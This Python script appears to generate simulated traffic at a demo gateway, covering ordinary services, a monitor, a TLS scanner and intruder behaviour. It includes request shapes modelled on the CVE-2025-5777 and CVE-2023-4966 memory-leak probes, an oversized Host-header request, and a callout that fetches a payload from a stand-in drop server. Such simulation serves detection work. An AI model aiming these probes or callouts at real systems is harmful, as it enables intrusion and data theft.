#!/usr/bin/env python3
"""others.py: everybody at the demo's gateway who is not a user.

  others.py services CERT KEY     what the gateway itself calls: DNS, NTP, OCSP over HTTP, syslog over TLS
  others.py egress SECONDS        the gateway calling them, as it does every day
  others.py monitor SECONDS       a probe every five seconds, always the same question
  others.py scan                  a scanner: versions and ciphers in quick succession, no page asked for
  others.py leak COUNT            the intruder: small equal requests, one connection each, half a second apart
  others.py oversize              the intruder: one request with a Host line of 24,812 characters
  others.py drop CERT KEY         the intruder's own server: hands out 25 kB
  others.py callout               on the gateway, on the intruder's behalf: fetches them

Sizes and paces of the intruder are those published for the memory leaks CVE-2025-5777 and CVE-2023-4966.
"""
import asyncio
import random
import socket
import ssl
import struct
import sys
import threading
import time

GATEWAY, NAME = "192.0.2.10", "gw.example.org"
SERVICES, DROP = "198.51.100.53", "203.0.113.66"
LEAK_REQUEST = 173	# plaintext bytes
OVERSIZE_HOST = 24812
SCAN_CIPHERS = ("AES128-SHA", "AES256-SHA", "AES128-SHA256", "AES256-SHA256", "AES128-GCM-SHA256",
                "AES256-GCM-SHA384", "ECDHE-ECDSA-AES128-SHA", "ECDHE-ECDSA-AES256-SHA",
                "ECDHE-ECDSA-AES128-GCM-SHA256", "ECDHE-ECDSA-AES256-GCM-SHA384",
                "ECDHE-ECDSA-CHACHA20-POLY1305", "ECDHE-RSA-AES128-GCM-SHA256", "ECDHE-RSA-AES256-SHA384",
                "DHE-RSA-AES128-GCM-SHA256", "CAMELLIA128-SHA")


def context(**limits):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    for name, value in limits.items():
        setattr(ctx, name, value)
    return ctx


def dial(addr, port, ctx, name=None):
    return ctx.wrap_socket(socket.create_connection((addr, port), 10), server_hostname=name)


def ask(addr, port, ctx, request, name=None):
    """One connection, one question; reads until the other side closes."""
    total = 0
    with dial(addr, port, ctx, name) as s:
        s.sendall(request)
        while data := s.recv(65536):
            total += len(data)
    return total


def monitor(seconds):
    ctx, end = context(), time.time() + float(seconds)
    request = f"GET /health HTTP/1.0\r\nHost: {NAME}\r\nUser-Agent: uptime/3\r\n\r\n".encode()
    tick = time.time()
    while time.time() < end:
        ask(GATEWAY, 443, ctx, request, NAME)
        tick += 5
        time.sleep(max(0, tick - time.time()))


def scan():
    versions = (ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1, ssl.TLSVersion.TLSv1_2, ssl.TLSVersion.TLSv1_3)
    tries = [(v, "ALL:@SECLEVEL=0") for v in versions]
    tries += [(ssl.TLSVersion.TLSv1_2, c + ":@SECLEVEL=0") for c in SCAN_CIPHERS]
    for version, ciphers in tries:
        try:
            ctx = context(maximum_version=version, minimum_version=version)
            ctx.set_ciphers(ciphers)
            dial(GATEWAY, 443, ctx).close()
        except (OSError, ValueError):
            pass
        time.sleep(0.08)


def leak(count):
    ctx = context()
    head = f"POST /p/u/auth HTTP/1.0\r\nHost: {NAME}\r\nUser-Agent: "
    tail = "\r\nContent-Length: 5\r\nConnection: close\r\n\r\nlogin"
    agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
    request = (head + agent[:LEAK_REQUEST - len(head) - len(tail)] + tail).encode()
    assert len(request) == LEAK_REQUEST
    sizes = []
    for _ in range(int(count)):
        sizes.append(ask(GATEWAY, 443, ctx, request, NAME))
        time.sleep(0.5)
    print("leaked answers:", sizes)


def oversize():
    request = f"GET /oauth/config HTTP/1.1\r\nHost: {'a' * OVERSIZE_HOST}\r\nConnection: close\r\n\r\n".encode()
    print("oversized request:", len(request), "answer:", ask(GATEWAY, 443, context(), request, NAME))


def callout():
    ctx = context(minimum_version=ssl.TLSVersion.TLSv1_3)
    print("fetched:", ask(DROP, 8443, ctx, b"GET /u HTTP/1.0\r\n\r\n"))


def udp_ask(port, data):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(data, (SERVICES, port))
        s.recv(2000)


def dns_query(name):
    return struct.pack(">6H", random.randrange(65536), 0x0100, 1, 0, 0, 0) + \
        b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0\0\1\0\1"


def egress(seconds):
    """Each service in turn, every sixteen seconds; a new syslog connection each time round."""
    end, ctx = time.time() + float(seconds), context()
    ocsp = b"POST /ocsp HTTP/1.0\r\nHost: ocsp.example.net\r\nContent-Length: 83\r\n\r\n" + bytes(83)
    logs = b"".join(b"<134>1 2026-01-01T00:00:00Z gw portal - - - session event %d\n" % i for i in range(6))
    while time.time() < end:
        udp_ask(53, dns_query("ocsp.example.net"))
        with socket.create_connection((SERVICES, 80), 5) as s:
            s.sendall(ocsp)
            s.recv(4000)
        time.sleep(5)
        udp_ask(123, b"\x23" + bytes(47))
        time.sleep(5)
        with dial(SERVICES, 6514, ctx, "syslog.example.net") as s:
            s.sendall(logs)
            time.sleep(1)
            s.unwrap()
        time.sleep(5)


def answer_udp(port, make):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("", port))
    while True:
        data, peer = sock.recvfrom(2000)
        sock.sendto(make(data), peer)


async def ocsp_answer(r, w):
    await r.readuntil(b"\r\n\r\n")
    w.write(b"HTTP/1.0 200 OK\r\nContent-Type: application/ocsp-response\r\nContent-Length: 471\r\n\r\n" + bytes(471))
    w.close()


async def syslog_sink(r, w):
    while await r.read(4096):
        pass
    w.close()


async def hand_out(r, w):
    await r.readuntil(b"\r\n\r\n")
    w.write(b"HTTP/1.0 200 OK\r\nContent-Length: 25000\r\n\r\n" + random.randbytes(25000))
    w.close()


def server(cert, key):
    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ctx.load_cert_chain(cert, key)
    return ctx


async def forever(*listeners):
    for handler, port, ctx in listeners:
        await asyncio.start_server(handler, "0.0.0.0", port, ssl=ctx)
    await asyncio.sleep(3600)


def services(cert, key):
    def dns(data):
        return data[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + data[12:] + bytes.fromhex("c00c000100010000012c0004") + \
            socket.inet_aton(SERVICES)

    def ntp(data):
        return b"\x24\x02\x06\xec" + bytes(20) + data[40:48] + bytes(16)

    for port, make in ((53, dns), (123, ntp)):
        threading.Thread(target=answer_udp, args=(port, make), daemon=True).start()
    asyncio.run(forever((ocsp_answer, 80, None), (syslog_sink, 6514, server(cert, key))))


def drop(cert, key):
    asyncio.run(forever((hand_out, 8443, server(cert, key))))


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
